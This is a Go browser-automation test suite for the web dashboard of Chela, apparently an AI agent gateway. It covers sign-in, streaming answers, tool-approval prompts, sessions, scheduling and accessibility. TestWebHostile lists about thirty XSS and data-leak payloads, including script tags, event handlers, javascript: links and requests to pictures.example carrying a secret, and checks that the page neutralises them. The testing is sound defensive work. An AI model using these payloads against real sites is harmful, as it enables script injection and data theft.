//go:build conformance

package conformance

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"github.com/chela-ai/chela/internal/kit/waittest"
	"github.com/chela-ai/chela/wire"
)

// dashboard returns the address that `chela dashboard` would open.
func (s *gateway) dashboard(args ...string) string {
	s.t.Helper()
	var out struct{ URL string }
	if err := json.Unmarshal([]byte(s.Chela(append([]string{"dashboard", "--no-open", "--json"}, args...)...)),
		&out); err != nil {
		s.t.Fatal(err)
	}
	return out.URL
}

// click clicks the first visible element of a selector whose text, if it is not empty, begins
// with text.
func (b *browser) click(selector, text string) {
	b.t.Helper()
	find := fmt.Sprintf(`[...document.querySelectorAll(%s)].find(e => e.getClientRects().length && !e.disabled && e.innerText.trim().startsWith(%s))`, quote(selector), quote(text))
	b.Await("no "+selector+" "+text, "!!"+find)
	b.do("click "+selector, chromedp.Evaluate[chromedp.Void](find+".click()"))
}

// has waits until an element of a selector contains a text.
func (b *browser) has(selector, text string) {
	b.t.Helper()
	b.Await(fmt.Sprintf("no %s with %q", selector, text),
		fmt.Sprintf(`[...document.querySelectorAll(%s)].some(e => e.innerText.includes(%s))`, quote(selector), quote(text)))
}

// gone waits until no element of a selector contains a text.
func (b *browser) gone(selector, text string) {
	b.t.Helper()
	b.Await(fmt.Sprintf("%s with %q is still there", selector, text),
		fmt.Sprintf(`![...document.querySelectorAll(%s)].some(e => e.innerText.includes(%s))`, quote(selector), quote(text)))
}

// asked returns how often the page shows a message of the person.
func (b *browser) asked(text string) int {
	b.t.Helper()
	return evaluate[int](b,
		fmt.Sprintf(`[...document.querySelectorAll(".bubble")].filter(e => e.innerText.trim() == %s).length`, quote(text)))
}

// visit opens a part of the page by its address.
func (b *browser) visit(part string) {
	b.t.Helper()
	b.do("visit "+part, chromedp.Evaluate[chromedp.Void](fmt.Sprintf("location.hash = %s", quote("#/"+part))))
}

// scheme sets the color scheme of the system.
func (b *browser) scheme(name string) {
	b.t.Helper()
	_, err := chromedp.Call(b.ctx, emulation.SetEmulatedMedia,
		emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: name}}})
	if err != nil {
		b.t.Fatalf("scheme %s: %v", name, err)
	}
}

// signedIn opens the page of a gateway, signed in by a link.
func signedIn(t testing.TB, s *gateway) *browser {
	t.Helper()
	b := newBrowser(t)
	b.Open(s.dashboard())
	b.Await("no message field", `!!document.querySelector('`+composer+`')`)
	return b
}

// steps returns a function that runs subtests, each of which needs the one before it.
func (b *browser) steps(t *testing.T) func(name string, f func(t *testing.T)) {
	return func(name string, f func(t *testing.T)) {
		if !t.Run(name, func(t *testing.T) { b.t = t; f(t) }) {
			t.FailNow()
		}
		b.t = t
	}
}

// clean checks that the page reported no error, such as what its policy forbids.
func (b *browser) clean(t *testing.T) {
	t.Helper()
	for _, e := range b.Errors(0) {
		t.Errorf("an error of the page: %s", e)
	}
}

// TestWeb uses Chela's own page as a person does.
func TestWeb(t *testing.T) {
	t.Parallel()
	s := newGateway(t, section{"tools": section{"exec": section{"mode": "ask"}}})
	s.File("notes.txt", "the tide turns at six\n")
	b := newBrowser(t)
	step := b.steps(t)
	link := s.dashboard()

	step("a link signs in, and its code is not left in the address", func(t *testing.T) {
		b.Open(link)
		b.Await("no message field", `!!document.querySelector('`+composer+`')`)
		if at := evaluate[string](b, "location.href + ' ' + history.length"); strings.Contains(at, "code") {
			t.Errorf("the address: %s", at)
		}
		if list := s.Chela("devices", "list"); !strings.Contains(list, "Chrome on linux") ||
			!strings.Contains(list, "operator ") || strings.Contains(list, "node") {
			t.Errorf("devices:\n%s", list)
		}
	})
	step("the key cannot be read, and only preferences are in the local storage", func(t *testing.T) {
		got := evaluate[string](b, `new Promise(done => {
			const open = indexedDB.open("chela");
			open.onsuccess = () => {
				const get = open.result.transaction("device").objectStore("device").get("this");
				get.onsuccess = () => done(get.result.key.extractable + " " + JSON.stringify(localStorage) + " " + JSON.stringify(sessionStorage));
			};
		})`)
		if got != "false {} {}" {
			t.Errorf("storage: %s", got)
		}
	})
	step("an answer is shown while it is written", func(t *testing.T) {
		b.say("count")
		b.Await("nothing is shown before the end",
			`(document.querySelector(".live .md")?.innerText ?? "").startsWith("1 2 3")`)
		b.has(".turn.assistant:not(.live)", "39 40")
		b.Await("it still works", `!document.querySelector(".live, .working")`)
	})
	step("an answer can be stopped", func(t *testing.T) {
		b.say("wait")
		b.has(".live .md", "1 2")
		b.click("button.stop", "")
		b.has(".turn.assistant .note", "Stopped")
		b.Await("it still works", `!document.querySelector(".live, .working, button.stop")`)
	})
	step("a message is accepted while an answer is written", func(t *testing.T) {
		b.say("wait")
		b.has(".live .md", "1 2")
		b.say("echo meanwhile")
		b.Await("the message is not shown",
			`[...document.querySelectorAll(".bubble")].some(e => e.innerText == "echo meanwhile")`)
		b.click("button.stop", "")
		b.Await("the message is not answered",
			`[...document.querySelectorAll(".turn.assistant > .md")].some(e => e.innerText.trim() == "meanwhile")`)
		b.Await("it still works", `!document.querySelector(".live, .working, button.stop")`)
	})
	step("a tool call is folded, and shows its input and output when it is opened", func(t *testing.T) {
		b.say("read notes.txt")
		b.has(".turn.assistant", "The tool said:")
		b.has(".tool summary", "read notes.txt")
		b.Await("it is not folded", `!document.querySelector(".tool[open]")`)
		b.click(".tool summary", "")
		b.has(".tool[open] .tool-body", "the tide turns at six")
		b.has(".tool[open] .tool-body", "notes.txt")
	})
	step("a question says what for, and can be denied", func(t *testing.T) {
		b.say("run touch ../denied-by-a-click")
		b.has(".question", "touch ../denied-by-a-click")
		b.has(".question", "Why it asks")
		b.has(".tool .tool-state", "waits")
		b.Await("the title does not tell", `document.title.startsWith("(1) ")`)
		b.click(".question button", "Deny")
		b.Await("the question is still shown", `!document.querySelector(".question")`)
		b.Await("it still works", `!document.querySelector(".live, .working")`)
		b.has(".tool.refused .tool-state", "not run")
		b.has(".tool.refused .tool-outcome", "denied by owner")
	})
	step("a question can be allowed once", func(t *testing.T) {
		b.say("run touch made-by-a-click")
		b.has(".question", "touch made-by-a-click")
		b.click(".question button", "Allow once")
		b.Await("the question is still shown", `!document.querySelector(".question")`)
		waittest.Until(t, "the file",
			func() bool { _, err := os.Stat(filepath.Join(s.Work, "made-by-a-click")); return err == nil })
		b.Await("it still works", `!document.querySelector(".live, .working")`)
		if _, err := os.Stat(filepath.Join(s.Work, "..", "denied-by-a-click")); err == nil {
			t.Error("the denied command ran")
		}
	})
	step("allowing always asks once more", func(t *testing.T) {
		b.say("run touch always-made")
		b.click(".question button", "Always allow")
		b.has("dialog", "without asking")
		b.has("dialog", "touch always-made")
		b.do("Escape", chromedp.KeyEvent("\x1b"))
		b.Await("the dialog is still open", `!document.querySelector("dialog")`)
		b.has(".question", "touch always-made")
		b.click(".question button", "Always allow")
		b.click("dialog button", "Always allow")
		b.Await("the question is still shown", `!document.querySelector(".question")`)
		waittest.Until(t, "the file",
			func() bool { _, err := os.Stat(filepath.Join(s.Work, "always-made")); return err == nil })
		b.Await("it still works", `!document.querySelector(".live, .working")`)
		b.say("run touch always-made")
		b.Await("it asks again, or fails", `!document.querySelector(".question") && document.querySelectorAll(".tool").length >= 5 && !document.querySelector(".live, .working")`)
	})
	step("a failure is said, once", func(t *testing.T) {
		b.say("fail")
		b.has(".transcript", "scripted refusal")
		b.Await("it still works", `!document.querySelector(".live, .working")`)
		if n := evaluate[int](b, `document.querySelector(".transcript").innerText.split("scripted refusal").length - 1`); n !=
			1 {
			t.Errorf("it is said %d times: %s", n,
				evaluate[string](b, `document.querySelector(".transcript").innerText.slice(-900)`))
		}
		b.do("reload", chromedp.Reload())
		b.has(".transcript", "scripted refusal")
	})
	step("a slash command is suggested and answered", func(t *testing.T) {
		// the Enter of say leaves a line
		b.do("empty", chromedp.Evaluate[chromedp.Void](`document.querySelector("#message").value = ""`))
		b.do("write", chromedp.Click(composer), chromedp.SendKeys(composer, "/stat"))
		b.has(".commands [aria-selected=true]", "/status")
		b.do("complete", chromedp.KeyEvent("\t"))
		b.do("send", chromedp.KeyEvent("\r"))
		b.has(".turn.assistant", "Model: mock/m")
		b.do("reload", chromedp.Reload())
		b.has(".turn.assistant", "Model: mock/m")
		if n := b.asked("/status"); n != 1 {
			t.Errorf("the command is shown %d times", n)
		}
	})
	step("everything is there after a reload, once", func(t *testing.T) {
		n := b.asked("count")
		b.do("reload", chromedp.Reload())
		b.has(".turn.assistant", "39 40")
		if got := b.asked("count"); got != 1 || n != 1 {
			t.Errorf("the message is shown %d times, and %d times after a reload", n, got)
		}
		b.has(".tool summary", "read notes.txt")
	})
	step("a picture is sent and shown", func(t *testing.T) {
		s.File("dot.png", picture(t, 3, 2))
		b.do("attach", chromedp.SetUploadFiles(`input[type=file]`, []string{filepath.Join(s.Work, "dot.png")}))
		b.Await("it is not shown before it is sent", `!!document.querySelector(".files img")`)
		b.say("echo seen")
		b.has(".turn.assistant", "seen")
		b.do("reload", chromedp.Reload())
		b.Await("it is not shown",
			`[...document.querySelectorAll(".turn.user img")].some(e => e.naturalWidth == 3 && e.naturalHeight == 2)`)
	})
	step("a search leads to the message", func(t *testing.T) {
		b.do("search", chromedp.Click(".search input"), chromedp.SendKeys(".search input", "39"))
		b.has(".list .row .row-text", "39")
		b.do("go there", chromedp.Evaluate[chromedp.Void](`[...document.querySelectorAll(".list .row")].find(e => e.href.split("/").length > location.href.split("#")[0].split("/").length + 2).click()`))
		b.Await("the message is not in view", `(e => e && e.innerText.includes("39 40") && e.getBoundingClientRect().bottom > 0 && e.getBoundingClientRect().top < innerHeight)(document.querySelector(".turn.found"))`)
		b.do("clear",
			chromedp.Evaluate[chromedp.Void](
				`(e => { e.value = ""; e.dispatchEvent(new Event("input")); })(document.querySelector(".search input"))`))
		b.visit("")
	})
	step("a conversation can be begun, renamed, found, archived and deleted", func(t *testing.T) {
		b.click(".new", "")
		b.has("h2", "How can I help?")
		b.say("echo in another one")
		b.has(".turn.assistant", "in another one")
		b.click(".menu > button", "")
		b.click(".menu li button", "Rename")
		b.Await("no field", `document.activeElement.matches("dialog input")`)
		b.do("rename", chromedp.KeyEvent("Tea talk"), chromedp.KeyEvent("\r"))
		b.has(".sidebar .row", "Tea talk")
		b.has(".top h1", "Tea talk")
		b.do("search", chromedp.Click(".search input"), chromedp.SendKeys(".search input", "another"))
		b.has(".list", "In messages")
		b.has(".list .row", "Tea talk")
		b.do("clear",
			chromedp.Evaluate[chromedp.Void](
				`(e => { e.value = ""; e.dispatchEvent(new Event("input")); })(document.querySelector(".search input"))`))
		b.has(".sidebar .row", "Main conversation")
		b.click(".menu > button", "")
		b.click(".menu li button", "Archive")
		b.gone(".sidebar .row", "Tea talk")
		b.click(".list > button", "Show archived")
		b.has(".sidebar .row", "Tea talk")
		b.click(".menu > button", "")
		b.click(".menu li button", "Delete")
		b.has("dialog", "cannot be undone")
		b.click("dialog button", "Cancel")
		b.has(".sidebar .row", "Tea talk")
		b.click(".menu > button", "")
		b.click(".menu li button", "Delete")
		b.click("dialog button", "Delete")
		b.gone(".sidebar .row", "Tea talk")
		b.has(".top h1", "Main conversation")
		if list := s.Chela("sessions", "list"); strings.Contains(list, "Tea talk") {
			t.Errorf("sessions:\n%s", list)
		}
	})
	step("a subagent is shown under tasks, and can be stopped", func(t *testing.T) {
		b.say("spawn wait")
		b.has(".turn.assistant", "A helper was started.")
		b.visit("tasks")
		b.has(".card", "helper")
		b.click(".card button", "Stop")
		b.click("dialog button", "Stop")
		b.has(".card .badge", "cancelled")
		b.click(".card summary", "Details")
		b.has(".card", "wait")
	})
	step("a job is shown, run, paused, resumed and deleted", func(t *testing.T) {
		s.Chela("cron", "add", "--name", "Morning brief", "--cron", "0 9 * * 1-5", "--session", "isolated",
			"--message", "echo good morning")
		b.visit("schedule")
		b.has(".card", "Morning brief")
		b.has(".card", "0 9 * * 1-5")
		b.click(".card button", "Run now")
		b.has(".card", "Last")
		b.click(".card summary", "Last runs")
		b.has(".card .runs", "ok")
		b.has(".card .runs", greeting)
		b.click(".card button", "Pause")
		b.has(".card .badge", "Paused")
		if list := s.Chela("cron", "list", "--all"); !strings.Contains(list, "off") {
			t.Errorf("jobs:\n%s", list)
		}
		b.click(".card button", "Resume")
		b.gone(".card .badge", "Paused")
		b.click(".card button", "Delete")
		b.click("dialog button", "Delete")
		b.Shows("Nothing is scheduled.")
		if list := s.Chela("cron", "list", "--all"); strings.Contains(list, "brief") {
			t.Errorf("jobs:\n%s", list)
		}
	})
	step("the thinking level of all conversations can be set", func(t *testing.T) {
		b.visit("settings")
		b.Await("no choice", `!!document.querySelector("#thinking")`)
		b.do("choose",
			chromedp.Evaluate[chromedp.Void](
				`(e => { e.value = "low"; e.dispatchEvent(new Event("change")); })(document.querySelector("#thinking"))`))
		b.Shows("Saved.")
		if got := strings.TrimSpace(s.Chela("config", "get", "agents.defaults.thinkingDefault")); !strings.Contains(got,
			"low") {
			t.Errorf("the configuration has %s", got)
		}
	})
	step("the page speaks Chinese, and remembers it", func(t *testing.T) {
		b.click(`.segments input[name=language]`, "")
		b.do("choose",
			chromedp.Evaluate[chromedp.Void](`document.querySelectorAll(".segments input[name=language]")[1].click()`))
		b.has("h1", "设置")
		b.do("reload", chromedp.Reload())
		b.has("h1", "设置")
		if got := evaluate[string](b, "document.documentElement.lang"); got != "zh-CN" {
			t.Errorf("lang %s", got)
		}
		b.do("choose",
			chromedp.Evaluate[chromedp.Void](`document.querySelectorAll(".segments input[name=language]")[0].click()`))
		b.has("h1", "Settings")
	})
	step("the page is dark as the system, or as a person says", func(t *testing.T) {
		dark := func() bool {
			return evaluate[bool](b, `getComputedStyle(document.body).backgroundColor != "rgb(250, 247, 242)"`)
		}
		if dark() {
			t.Error("it is dark in a light system")
		}
		b.scheme("dark")
		if !dark() {
			t.Error("it is light in a dark system")
		}
		b.do("light", chromedp.Evaluate[chromedp.Void](`document.querySelectorAll(".segments input[name=theme]")[1].click()`))
		if dark() {
			t.Error("a person's choice does not count")
		}
		b.do("system",
			chromedp.Evaluate[chromedp.Void](`document.querySelectorAll(".segments input[name=theme]")[0].click()`))
		b.scheme("light")
	})
	step("it fits on a phone", func(t *testing.T) {
		b.do("resize", chromedp.EmulateViewport(360, 740))
		for _, part := range []string{"chat/", "tasks", "schedule", "settings"} {
			b.visit(part)
			b.Await("no page", `!!document.querySelector(".main .column")`)
			if got := evaluate[int](b, "document.documentElement.scrollWidth"); got > 360 {
				t.Errorf("%s is %d pixels wide", part, got)
			}
		}
		b.visit("chat/")
		b.Await("the list covers the page", `getComputedStyle(document.querySelector(".sidebar")).visibility == "hidden"`)
		b.click(".top .only-phone", "")
		b.Await("the list does not open", `document.querySelector(".sidebar").getBoundingClientRect().left >= 0`)
		b.click(".sidebar .row", "Main conversation")
		b.Await("the list does not close", `getComputedStyle(document.querySelector(".sidebar")).visibility == "hidden"`)
		b.do("resize", chromedp.EmulateViewport(1280, 900))
	})
	step("keys are enough", func(t *testing.T) {
		b.do("Ctrl-K",
			chromedp.Evaluate[chromedp.Void](
				`document.dispatchEvent(new KeyboardEvent("keydown", {key: "k", ctrlKey: true, bubbles: true}))`))
		b.Await("Ctrl-K does not go to the search", `document.activeElement.matches(".search input")`)
		b.do("skip", chromedp.Evaluate[chromedp.Void](`document.querySelector(".skip").click()`))
		b.Await("the link does not skip to the field", `document.activeElement.matches("#message")`)
	})
	t.Run("the gateway refused nothing", func(t *testing.T) { b.succeeded(t) })
	t.Run("the page reported no error", func(t *testing.T) { b.clean(t) })
}

// TestWebSignIn tries what lets a browser in, and what does not.
func TestWebSignIn(t *testing.T) {
	t.Parallel()
	s := newGateway(t, nil)
	link := s.dashboard()
	first := newBrowser(t)
	first.Open(link)
	first.Await("no message field", `!!document.querySelector('`+composer+`')`)

	b := newBrowser(t)
	step := b.steps(t)
	step("a code is used once", func(t *testing.T) {
		b.Open(link)
		b.has(".gate .error", "This link was used already")
		b.Shows("chela dashboard")
		if at := evaluate[string](b, "location.href"); strings.Contains(at, "code") {
			t.Errorf("the address: %s", at)
		}
	})
	enter := func(secret string) {
		b.do("enter", chromedp.Click("#secret"), chromedp.SendKeys("#secret", secret), chromedp.KeyEvent("\r"))
	}
	step("a wrong token is refused, and can be corrected", func(t *testing.T) {
		b.Open(s.HTTP() + "/?")
		b.Await("no field", `!!document.querySelector("#secret")`)
		b.Await("an error without a reason", `!document.querySelector(".gate .error")`)
		enter("wrong")
		b.has(".gate .error", "That is not the gateway's token.")
		enter(token)
		b.Await("no message field", `!!document.querySelector('`+composer+`')`)
		b.do("reload", chromedp.Reload())
		b.Await("it is not remembered", `!!document.querySelector('`+composer+`')`)
	})
	step("a used code does not sign out a browser that is signed in", func(t *testing.T) {
		b.Open("about:blank")
		b.Open(link)
		b.Await("no message field", `!!document.querySelector('`+composer+`')`)
	})
	id := regexp.MustCompile(`(?m)^([0-9a-f]{12}) .*connected`)
	step("a browser that was removed says so, and waits for approval", func(t *testing.T) {
		device := evaluate[string](b, `new Promise(done => {
			const open = indexedDB.open("chela");
			open.onsuccess = () => { open.result.transaction("device").objectStore("device").get("this").onsuccess = e => done(e.target.result.id); };
		})`)
		s.Chela("devices", "remove", device)
		b.has(".gate .error", "revoked")
		enter(token)
		b.Shows("chela devices approve ")
		command := evaluate[string](b, `document.querySelector(".command").innerText`)
		s.Chela(strings.Fields(command)[1:]...)
		b.Await("it does not go on after the approval", `!!document.querySelector('`+composer+`')`)
	})
	step("a limited link does not change the schedule or settings", func(t *testing.T) {
		other := newBrowser(t, "box.example")
		link := s.dashboard("--url", fmt.Sprintf("http://127.0.0.2:%d", s.Port))
		if strings.Contains(link, "limited") {
			t.Fatalf("%s is limited, but does not leave this machine", link)
		}
		link = s.dashboard("--url", fmt.Sprintf("http://box.example:%d/", s.Port))
		_, code, _ := strings.Cut(link, "#")
		if !strings.Contains(code, "access=limited") {
			t.Fatalf("%s is not limited", link)
		}
		other.Open(s.HTTP() + "/#" + code)
		other.Await("no message field", `!!document.querySelector('`+composer+`')`)
		other.visit("settings")
		other.Shows("This browser may not change this.")
		other.Shows("Read, write and answer questions")
	})
	step("a person can sign out", func(t *testing.T) {
		b.visit("settings")
		b.click("button", "Sign out")
		b.click("dialog button", "Sign out")
		b.Await("no sign-in", `!!document.querySelector("#secret")`)
	})
	if list := s.Chela("devices", "list"); len(id.FindAllString(list, -1)) == 0 {
		t.Errorf("the first browser is not connected any more:\n%s", list)
	}
}

// TestWebCuts restarts the gateway below the page. The page connects again by itself, shows
// everything once, and sends what was written meanwhile, once.
func TestWebCuts(t *testing.T) {
	t.Parallel()
	s := newGateway(t, nil)
	b := signedIn(t, s)
	b.say("echo before the cuts")
	b.has(".turn.assistant", "before the cuts")
	const cuts = 4
	for i := range cuts {
		s.Stop()
		b.Await("it does not say that the gateway is gone", `!!document.querySelector(".banner")`)
		if i == 0 {
			b.Shows("chela gateway run")
		}
		b.say(fmt.Sprintf("echo during cut %d.", i))
		b.has(".turn.user", "Sending …")
		if i == 1 {
			b.do("reload while the gateway is away", chromedp.Evaluate[chromedp.Void](`1`))
		}
		s.Start()
		b.has(".turn.assistant", fmt.Sprintf("during cut %d.", i))
		b.Await("it still says that the gateway is gone", `!document.querySelector(".banner")`)
	}
	var h wire.History
	s.operator(t).Must("chat.history", map[string]any{"sessionKey": "main", "limit": 100}, &h)
	for i := range cuts {
		text := fmt.Sprintf("echo during cut %d.", i)
		n := 0
		for _, m := range h.Messages {
			if m.Role == wire.RoleUser && m.Text() == text {
				n++
			}
		}
		if shown := b.asked(text); n != 1 || shown != 1 {
			t.Errorf("message %d is stored %d times and shown %d times", i, n, shown)
		}
	}
	if b.Loads() != 1 {
		t.Errorf("the page was loaded %d times", b.Loads())
	}
}

// TestWebResume kills the gateway while it answers, and cuts the connection while it does.
func TestWebResume(t *testing.T) {
	t.Parallel()
	s := newGateway(t, nil)
	b := signedIn(t, s)
	b.say("count")
	b.Await("nothing is shown", `(document.querySelector(".live .md")?.innerText ?? "").includes("1 2 3")`)
	s.Stop()
	s.Start()
	b.has(".turn.assistant", "39 40")
	b.Await("it still works", `!document.querySelector(".live, .working, .banner")`)
	if n := b.asked("count"); n != 1 {
		t.Errorf("the message is shown %d times", n)
	}
	if n := evaluate[int](b, `document.querySelector(".transcript").innerText.split("39 40").length - 1`); n != 1 {
		t.Errorf("the answer is shown %d times", n)
	}
}

// TestWebTabs uses the page in two tabs.
func TestWebTabs(t *testing.T) {
	t.Parallel()
	s := newGateway(t, section{"tools": section{"exec": section{"mode": "ask"}}})
	b := signedIn(t, s)
	ctx, end := chromedp.NewContext(b.ctx)
	defer end()
	other := &browser{t: t, ctx: ctx}
	if err := chromedp.Listen(ctx, other.see); err != nil {
		t.Fatal(err)
	}
	other.Open(s.HTTP() + "/")
	other.Await("the second tab is not signed in", `!!document.querySelector('`+composer+`')`)
	b.say("echo from the first tab")
	other.has(".turn.assistant", "from the first tab")
	other.say("count")
	b.Await("the first tab does not show the answer as it is written",
		`(document.querySelector(".live .md")?.innerText ?? "").includes("1 2 3")`)
	b.has(".turn.assistant:not(.live)", "39 40")
	for _, text := range []string{"echo from the first tab", "count"} {
		if one, two := b.asked(text), other.asked(text); one != 1 || two != 1 {
			t.Errorf("%s: shown %d and %d times", text, one, two)
		}
	}
	other.say("run touch from-a-tab")
	b.has(".question", "touch from-a-tab")
	other.has(".question", "touch from-a-tab")
	b.click(".question button", "Allow once")
	other.Await("the other tab still asks", `!document.querySelector(".question")`)
	other.has(".turn.assistant", "The tool said:")
	b.clean(t)
	other.clean(t)
}

// hostile are texts that would do something if they became more than text.
var hostile = []string{
	`<script>window.hacked = 1</script>`,
	`<img src=x onerror="window.hacked = 1">`,
	`<svg onload="window.hacked = 1"></svg>`,
	`<svg><script>window.hacked = 1</script></svg>`,
	`<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>`,
	`<a href="javascript:window.hacked = 1" id="bait">x</a>`,
	`[x](javascript:window.hacked=1)`,
	`[x](JaVaScRiPt:window.hacked=1)`,
	`[x](data:text/html,<script>window.hacked=1</script>)`,
	`[x](vbscript:hacked)`,
	`<javascript:window.hacked=1>`,
	`![x](http://pictures.example/leak.png?secret)`,
	`<img src="http://pictures.example/leak.png">`,
	`<style>@import "http://pictures.example/x.css"; * { background: url(http://pictures.example/y.png) }</style>`,
	`<link rel="stylesheet" href="http://pictures.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=http://pictures.example/">`,
	`<form action="http://pictures.example/"><button id="bait">x</button></form>`,
	`<input autofocus onfocus="window.hacked = 1">`,
	`<details open ontoggle="window.hacked = 1">x</details>`,
	`<video src="http://pictures.example/v.mp4" autoplay onerror="window.hacked = 1"></video>`,
	`<math><mi xlink:href="javascript:window.hacked=1">x</mi></math>`,
	`<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">`,
	`<chela-page></chela-page><base href="http://pictures.example/">`,
	"```html\n<script>window.hacked = 1</script>\n```",
	"```\"><img src=x onerror=window.hacked=1>\nx\n```",
	"| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | ![](http://pictures.example/t.png) |",
	`"><img src=x onerror=window.hacked=1>`,
	`<http://pictures.example/"onmouseover="window.hacked=1>`,
	`[x](http://pictures.example/"onmouseover="window.hacked=1 "title")`,
	`<p style="position:fixed;inset:0" class="gate" id="message">over everything</p>`,
}

// TestWebHostile shows answers, names and questions that try to run code or to reach a server.
func TestWebHostile(t *testing.T) {
	t.Parallel()
	s := newGateway(t, section{"tools": section{"exec": section{"mode": "ask"}}})
	b := signedIn(t, s)
	for i, text := range hostile {
		b.say("echo " + strings.ReplaceAll(text, "\n", " ↵ "))
		b.Await("no answer", fmt.Sprintf(`document.querySelectorAll(".turn.assistant:not(.live) > .md").length == %d`, i+1))
	}
	// The same, with the lines that a person cannot write in one message here.
	for _, text := range hostile {
		s.operator(t).Must("chat.inject", map[string]any{"sessionKey": "main", "message": text}, nil)
	}
	s.operator(t).Must("sessions.patch", map[string]any{"key": "main", "label": `<img src=x onerror=window.hacked=1>`},
		nil)
	b.has(".sidebar", "<img src=x")
	b.say(`run touch '../<img src=x onerror=window.hacked=1>'`)
	b.has(".question", "<img src=x")
	b.do("reload", chromedp.Reload())
	b.has(".question", "<img src=x")
	got := evaluate[string](b, `(() => {
		const bad = [];
		if (window.hacked) bad.push("code ran");
		const all = document.querySelectorAll(".transcript *");
		for (const e of all) {
			for (const a of e.attributes) if (a.name.startsWith("on") || a.name == "style" && e.closest(".md")) bad.push(e.outerHTML);
			if (e.closest(".md") && !/^(DIV|P|BR|HR|H\d|STRONG|EM|DEL|CODE|PRE|BLOCKQUOTE|UL|OL|LI|A|TABLE|THEAD|TBODY|TR|TH|TD|SPAN|BUTTON)$/.test(e.tagName)) bad.push(e.outerHTML);
			if (e.closest(".md") && e.id) bad.push(e.outerHTML);
		}
		for (const a of document.querySelectorAll(".md a")) {
			if (!/^(https?|mailto):/.test(a.href) || a.target != "_blank" || !a.relList.contains("noopener") || !a.relList.contains("noreferrer")) bad.push(a.outerHTML);
			a.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
		}
		if (window.hacked) bad.push("code ran");
		return bad.join("\n");
	})()`)
	if got != "" {
		t.Error(got)
	}
	for _, u := range b.Requests() {
		if !strings.HasPrefix(u, s.HTTP()+"/") && !strings.HasPrefix(u, "data:") &&
			!strings.HasPrefix(u, "ws://127.0.0.1:") && u != "about:blank" {
			t.Errorf("a request left: %s", u)
		}
	}
	b.clean(t)
}

// TestWebAccessible checks the page with axe.
func TestWebAccessible(t *testing.T) {
	t.Parallel()
	axe, err := os.ReadFile(filepath.Join(packages(t, kit{name: "axe", Needs: map[string]string{"axe-core": "4.14.1"}}),
		"axe-core", "axe.min.js"))
	if err != nil {
		t.Fatal(err)
	}
	s := newGateway(t, section{"tools": section{"exec": section{"mode": "ask"}}})
	s.File("notes.txt", "the tide turns at six\n")
	s.Chela("cron", "add", "--name", "Morning brief", "--cron", "0 9 * * 1-5", "--session", "isolated",
		"--message", "echo good morning")
	s.Chela("agent", "-m", "echo # A title | with `code`, a [link](https://example.org/) and **more**")
	s.Chela("agent", "-m", "read notes.txt")
	b := newBrowser(t)
	check := func(t *testing.T, what string) {
		b.t = t
		b.do("load axe", chromedp.Evaluate[chromedp.Void](string(axe)+";0"))
		for _, f := range evaluate[[]struct {
			ID, Impact, Help string
			Nodes            []string
		}](b, `axe.run(document, {resultTypes: ["violations"]}).then(r => r.violations.map(v => ({ID: v.id, Impact: v.impact, Help: v.help, Nodes: v.nodes.map(n => n.html.slice(0, 160) + " " + n.failureSummary)})))`) {
			say := t.Logf
			if f.Impact == "serious" || f.Impact == "critical" {
				say = t.Errorf
			}
			say("%s: %s (%s): %s\n%s", what, f.ID, f.Impact, f.Help, strings.Join(f.Nodes, "\n"))
		}
	}
	b.Open(s.HTTP() + "/")
	b.Await("no field", `!!document.querySelector("#secret")`)
	t.Run("sign in", func(t *testing.T) { check(t, "sign in") })
	b.t = t
	b.Open("about:blank")
	b.Open(s.dashboard())
	b.has(".tool summary", "read")
	b.say("run touch x")
	b.has(".question", "touch x")
	b.click(".tool summary", "")
	for _, look := range []string{"light", "dark", "phone"} {
		t.Run(look, func(t *testing.T) {
			b.t = t
			if look == "dark" {
				b.scheme("dark")
			}
			if look == "phone" {
				b.do("resize", chromedp.EmulateViewport(360, 740))
			}
			for _, part := range []string{"chat/", "questions", "tasks", "schedule", "settings"} {
				b.visit(part)
				b.Await("no page", `!!document.querySelector(".main .column")`)
				if part == "settings" {
					b.Await("no choice", `!!document.querySelector("#thinking")`)
				}
				b.do("come to rest", chromedp.Sleep(300*time.Millisecond))
				check(t, look+" "+part)
			}
			b.visit("chat/")
			b.click(".menu > button", "")
			check(t, look+" menu")
			b.click(".menu li button", "Rename")
			b.Await("no dialog", `!!document.querySelector("dialog[open]")`)
			check(t, look+" dialog")
			b.click("dialog button", "Cancel")
		})
	}
	b.t = t
}

// TestWebBase serves the page below a path.
func TestWebBase(t *testing.T) {
	t.Parallel()
	s := newGateway(t, section{"gateway": section{"controlUi": section{"basePath": "/chela"}}})
	link := s.dashboard()
	if !strings.HasPrefix(link, s.HTTP()+"/chela/#code=") {
		t.Fatalf("the address is %s", link)
	}
	b := newBrowser(t)
	b.Open(link)
	b.say("echo below a path")
	b.has(".turn.assistant", "below a path")
	b.Open(s.HTTP() + "/chela")
	b.has(".turn.assistant", "below a path")
	b.clean(t)
}

// TestWebBuild checks that the committed page is what its sources give.
func TestWebBuild(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	const root = "../../.."
	list, err := exec.Command("git", "-C", root, "ls-files", "--cached", "--others", "--exclude-standard", "web").Output()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range strings.Fields(string(list)) {
		b, err := os.ReadFile(filepath.Join(root, name))
		if err != nil {
			t.Fatal(err)
		}
		to := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(to), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(to, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	for _, args := range [][]string{{"ci", "--ignore-scripts", "--no-audit", "--no-fund", "--loglevel=error"},
		{"run", "build"}} {
		cmd := exec.CommandContext(ctx, "npm", args...)
		cmd.Dir = filepath.Join(dir, "web")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("npm %s: %v\n%s", args[0], err, bytes.TrimSpace(out))
		}
	}
